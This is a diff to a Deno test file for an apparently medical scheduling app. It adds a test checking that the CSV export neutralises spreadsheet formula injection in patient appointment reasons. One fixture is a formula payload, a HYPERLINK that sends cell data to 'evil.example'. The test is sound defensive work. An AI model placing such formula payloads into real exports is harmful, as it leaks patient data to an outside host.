@@ -13,7 +13,10 @@ import { startDenoKv } from "../_harness/denokv.ts";
 import { startFerretDb, withRawDb } from "../_harness/ferretdb.ts";
 import { runTask, spawnTask } from "./_run_task.ts";
 import { toDocument } from "../../src/stores/mongo/documents.ts";
-import { appointment, id } from "../contract/_fixtures.ts";
+import { appointment, doctor, id, T0 } from "../contract/_fixtures.ts";
+import { openOperatorRuntime } from "../../src/bootstrap.ts";
+import { loadConfig } from "../../src/config/config.ts";
+import { createLogger } from "../../src/observability/logger.ts";
 
 Deno.test("reconcile refuses --grace-seconds below the servers' claim grace", async () => {
   const dir = await Deno.makeTempDir({ prefix: "vaidya-ops-" });
@@ -234,4 +237,36 @@ Deno.test("export writes its file (patient data, medical text with --include-med
     0,
     "a replaced file: no group or other access",
   );
+});
+
+Deno.test("export --include-medical writes a patient's reason that looks like a formula as text, not a formula", async () => {
+  const dir = await Deno.makeTempDir({ prefix: "vaidya-ops-" });
+  await Deno.mkdir(`${dir}/data`);
+  const config = loadConfig({ KV_PATH: `${dir}/data/vaidya.kv` });
+  const rt = await openOperatorRuntime(config, createLogger({ level: "error", write: () => {} }));
+  const reasons = [
+    '=HYPERLINK("https://evil.example/?"&A2,"details")',
+    "+1+2",
+    "-2+3",
+    "@SUM(1,2)",
+  ];
+  try {
+    const d = doctor();
+    await rt.records.doctors.create(d);
+    for (const [i, reason] of reasons.entries()) {
+      await rt.records.appointments.book(
+        appointment(d.id, id("pat"), i * 60, 30, { reasonSealed: await rt.cipher.seal(reason) }),
+      );
+    }
+  } finally {
+    await rt.close();
+  }
+  const day = new Date(T0).toISOString().slice(0, 10);
+  const res = await runTask("export", ["--from", day, "--to", day, "--include-medical"], dir);
+  assert.equal(res.code, 0, res.stderr);
+  const cells = res.stdout.trim().split("\n").slice(1).map((line) => line.split(",")[11]);
+  assert.equal(cells.length, reasons.length, res.stdout);
+  for (const cell of cells) {
+    assert.doesNotMatch(cell.replace(/^"/, ""), /^[=+\-@]/, `a formula cell: ${cell}`);
+  }
 });
